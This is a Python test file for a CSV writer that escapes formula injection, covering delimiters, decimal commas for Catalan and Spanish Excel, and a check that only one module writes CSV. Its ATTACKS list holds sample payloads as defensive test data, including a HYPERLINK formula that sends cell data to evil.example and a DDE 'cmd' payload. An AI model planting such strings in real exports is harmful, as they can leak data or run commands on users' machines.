"""The one writer of spreadsheet files (umic.core.spreadsheet), and that every writer uses it."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from umic.core.spreadsheet import BOM
from umic.core.spreadsheet import FORMULA_STARTS
from umic.core.spreadsheet import csv_chunks
from umic.core.spreadsheet import csv_text
from umic.core.spreadsheet import delimiter_named
from umic.core.spreadsheet import plain_cell
from umic.core.spreadsheet import safe_cell

UMIC = Path(__file__).resolve().parents[2] / "umic"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "+34 612 345 678",
    "@SUM(A1:A2)",
    "=1+2",  # a digit after the sign is no excuse
    "-5",
    "\t=1+2",
    "\r=1+2",
    '＝HYPERLINK("http://evil.example/")',  # full-width signs
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_could_run_as_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value
    assert plain_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["Raúl Sánchez", "2025/0029005", "9,4", "", "'quoted", "a=b"])
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value
    assert plain_cell(value) == value


def test_values_that_are_not_text():
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"
    assert safe_cell(-3) == "'-3"
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}


def test_a_csv_file_has_a_bom_crlf_lines_and_every_cell_made_safe():
    text = csv_text(["Nom", "Import"], [["=cmd", "12,50"], ['Joan "el Roig"', "-"]])
    assert text.startswith(BOM)
    assert text.count("\r\n") == 3
    rows = list(csv.reader(io.StringIO(text[len(BOM) :], newline=""), delimiter=";"))
    assert rows == [["Nom", "Import"], ["'=cmd", "12,50"], ['Joan "el Roig"', "'-"]]


def test_the_file_in_pieces_is_the_same_file():
    rows = [[str(n), f"persona {n}"] for n in range(1234)]
    pieces = list(csv_chunks(["n", "nom"], rows, rows_per_chunk=500))
    assert len(pieces) == 3
    assert "".join(pieces) == csv_text(["n", "nom"], rows)


def test_the_default_is_semicolons_the_comma_variant_on_request_m9():
    """M9: Excel with Catalan or Spanish regional settings opens a semicolon file in columns;
    a comma file opens there as one column. Commas stay available."""
    rows = [["Gelida", "8,3"]]
    assert csv_text(["Municipi", "Taxa"], rows) == f"{BOM}Municipi;Taxa\r\nGelida;8,3\r\n"
    assert csv_text(["Municipi", "Taxa"], rows, delimiter=",") == (
        f'{BOM}Municipi,Taxa\r\nGelida,"8,3"\r\n'
    )
    assert delimiter_named("coma") == ","
    assert delimiter_named("punt-i-coma") == delimiter_named(None) == delimiter_named("x") == ";"
    with pytest.raises(ValueError):
        csv_text(["a"], [], delimiter="|")


def test_decimal_numbers_are_written_as_the_separator_asks_m9():
    """M9: in a semicolon file 245,50 (how Catalan and Spanish write it, a number for Excel
    with those settings); in a comma file 245.50; no thousands separator; text untouched."""
    rows = [[Decimal("245.50"), Decimal("1234.5"), 0.25, 7, "12.5", Decimal("-3.10")]]
    semicolon = csv_text(["a", "b", "c", "d", "e", "f"], rows).splitlines()[1]
    assert semicolon == "245,50;1234,5;0,25;7;12.5;'-3,10"
    comma = csv_text(["a", "b", "c", "d", "e", "f"], rows, delimiter=",").splitlines()[1]
    assert comma == "245.50,1234.5,0.25,7,12.5,'-3.10"
    tab = "".join(csv_chunks(["a"], [[Decimal("2.5")]], delimiter="\t")).splitlines()[1]
    assert tab == "2.5"


#: The one place allowed to make a csv.writer: the tracker's tab-separated list goes through
#: ``write_tsv`` too.
WRITERS = {"core/spreadsheet.py"}


def test_no_other_module_writes_csv_by_itself():
    found = set()
    for path in UMIC.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    found.add(path.relative_to(UMIC).as_posix())
    assert found == WRITERS
